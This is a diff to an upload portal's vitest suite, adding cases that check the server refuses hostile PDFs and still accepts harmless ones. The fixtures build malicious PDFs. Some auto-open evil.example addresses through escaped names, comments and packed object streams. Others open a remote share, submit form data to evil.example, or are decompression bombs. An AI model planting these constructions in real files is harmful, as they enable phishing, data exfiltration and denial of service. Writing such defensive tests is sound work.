@@ -2,7 +2,7 @@ import { request } from 'node:http'
 import { deflateSync } from 'node:zlib'
 import sharp from 'sharp'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
-import { filesIn, formOf, makeImage, makeMp4, makePdf, materialFields, named, type Upload } from '../support/files'
+import { filesIn, formOf, handmadePdf, makeImage, makeMp4, makePdf, materialFields, named, packedStream, type Upload } from '../support/files'
 import { makePortal, type Portal } from '../support/portal'
 
 /** Files that are not what they say, or more: each is refused with its sentence, and nothing of it stays. */
@@ -69,6 +69,25 @@ const mismatch = 'The type of this file does not match its name.'
 const chooseMaterial = 'Please choose a PDF (.pdf) or a video (.mp4).'
 const choosePicture = 'Please choose a picture (.jpg, .jpeg or .png).'
 
+const opens = 'This PDF opens a web address or another file by itself, which is not allowed.'
+
+const uri = '<</S/URI/URI(https://evil.example)>>'
+/** Objects in a packed list, which is number 5: the first of them is `number`. */
+const listed = (number: number, body: string) => {
+  const head = `${number} 0 `
+  return packedStream(deflateSync(Buffer.from(head + body)), `/Type/ObjStm/N 1/First ${head.length}/Filter/FlateDecode`)
+}
+/** 150 MB of blanks in 150 kB. */
+const blanks = deflateSync(Buffer.alloc(150 * 1024 * 1024, 0x20))
+const ascii85 = (bytes: Buffer) => {
+  let text = ''
+  for (let at = 0; at + 4 <= bytes.length; at += 4) {
+    const value = bytes.readUInt32BE(at)
+    text += [4, 3, 2, 1, 0].map((power) => String.fromCharCode(33 + (Math.floor(value / 85 ** power) % 85))).join('')
+  }
+  return Buffer.from(`${text}~>`)
+}
+
 type Case = [what: string, file: Upload, message: string, status?: number]
 
 const materials: Case[] = [
@@ -87,6 +106,19 @@ const materials: Case[] = [
   ['a PDF that hides its script', named('a.pdf', withCatalog('/OpenAction <</S /J#61vaScript /#4aS (x)>>')), active],
   ['a PDF that starts a program', named('a.pdf', withCatalog('/OpenAction <</S /Launch /F (cmd.exe)>>')), active],
   ['a PDF with a program attached', named('a.pdf', attached), active],
+  ['a PDF that opens an address', named('a.pdf', handmadePdf({ entry: `/OpenAction ${uri}` })), opens],
+  ['a PDF that opens an address, said elsewhere', named('a.pdf', handmadePdf({ entry: '/OpenAction 5 0 R', objects: [uri] })), opens],
+  ['a PDF that opens an address, said in a packed list', named('a.pdf', handmadePdf({ entry: '/OpenAction 9 0 R', objects: [listed(9, uri)] })), opens],
+  ['a PDF that opens an address after a harmless step', named('a.pdf', handmadePdf({ entry: '/OpenAction 5 0 R', objects: ['<</S/GoTo/D[3 0 R/Fit]/Next 6 0 R>>', uri] })), opens],
+  ['a PDF that hides the address behind a comment', named('a.pdf', handmadePdf({ entry: '/OpenAction %\n5 0 R', objects: [uri] })), opens],
+  ['a PDF that hides the address behind a name', named('a.pdf', handmadePdf({ entry: '/Open#41ction 5 0 R', objects: ['<</S/#55RI/U#52I(https://evil.example)>>'] })), opens],
+  ['a PDF whose page opens an address', named('a.pdf', handmadePdf({ page: '/AA 5 0 R', objects: ['<</O 6 0 R>>', uri] })), opens],
+  ['a PDF that opens another file', named('a.pdf', handmadePdf({ entry: '/OpenAction <</S/GoToR/F(\\\\evil.example\\share)>>' })), opens],
+  ['a PDF that sends what is filled in', named('a.pdf', handmadePdf({ page: '/Annots[<</Subtype/Widget/A<</S/SubmitForm/F(https://evil.example)>>>>]' })), active],
+  ['a PDF whose page unpacks to 600 MB', named('a.pdf', handmadePdf({ page: '/Contents[5 0 R 6 0 R 7 0 R 8 0 R]', objects: Array<Buffer>(4).fill(packedStream(blanks)) })), harmful],
+  ['a PDF whose page of 600 MB says it is pictures', named('a.pdf', handmadePdf({ page: '/Contents[5 0 R 6 0 R 7 0 R 8 0 R]', objects: Array<Buffer>(4).fill(packedStream(blanks, '/Subtype/Image/Width 1/Height 1/Filter/FlateDecode')) })), harmful],
+  ['a PDF packed twice', named('a.pdf', handmadePdf({ page: '/Contents 5 0 R', objects: [packedStream(deflateSync(blanks), '/Filter[/FlateDecode/FlateDecode]')] })), harmful],
+  ['a PDF packed and written in letters', named('a.pdf', handmadePdf({ page: '/Contents 5 0 R', objects: [packedStream(ascii85(blanks), '/Filter[/ASCII85Decode/FlateDecode]')] })), harmful],
   ['a PDF with a password', named('a.pdf', await makePdf('secret', { userPassword: 'x', ownerPassword: 'y' })), 'This PDF is protected by a password. Please upload it without one.'],
   ['a PDF that unpacks to 200 MB', named('a.pdf', bomb()), harmful],
   ['the test virus as .pdf', named('a.pdf', eicar), harmful],
@@ -165,6 +197,23 @@ describe('study materials', () => {
 describe('the gallery', () => {
   it.each(pictures)('%s', async (_what, file, message, status = 415) => {
     expect(await send('/api/gallery', formOf({ title: 'A picture' }, file))).toMatchObject({ status, body: { message } })
+    await expectNothingLeft()
+  })
+})
+
+describe('PDFs as programs write them', () => {
+  const link = '<</Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://school.example)>>>>'
+  it.each([
+    ['that open at a page with a link', handmadePdf({ entry: '/OpenAction <</S/GoTo/D[3 0 R/Fit]>>', page: `/Contents 4 0 R/Annots[${link}]` })],
+    ['that open at a place', handmadePdf({ entry: '/OpenAction [3 0 R /Fit]' })],
+    ['that open at a place said elsewhere', handmadePdf({ entry: '/OpenAction 5 0 R', objects: ['<</S/GoTo/D[3 0 R/Fit]>>'] })],
+    ['with a text in letters', handmadePdf({ page: '/Contents 5 0 R', objects: [packedStream(ascii85(Buffer.concat([deflateSync(Buffer.from('q Q ')), Buffer.alloc(4)])), '/Filter[/ASCII85Decode/FlateDecode]')] })],
+    ['with a picture of 150 MB', handmadePdf({ page: '/Contents 4 0 R/Resources<</XObject<</A 5 0 R>>>>', objects: [packedStream(blanks, '/Subtype/Image/Width 7000/Height 7000/Filter/FlateDecode')] })],
+  ])('%s are taken', async (_what, bytes) => {
+    const { status, body } = await send('/api/promotions', formOf({ type: 'PDF', title: 'T', description: 'D' }, named('a.pdf', bytes)))
+    expect(status, JSON.stringify(body)).toBe(201)
+    const { promotion } = body as { promotion: { id: string } }
+    await fetch(`${portal.url}/api/promotions/${promotion.id}`, { method: 'DELETE', headers: { authorization: `Bearer ${bearer}` } })
     await expectNothingLeft()
   })
 })
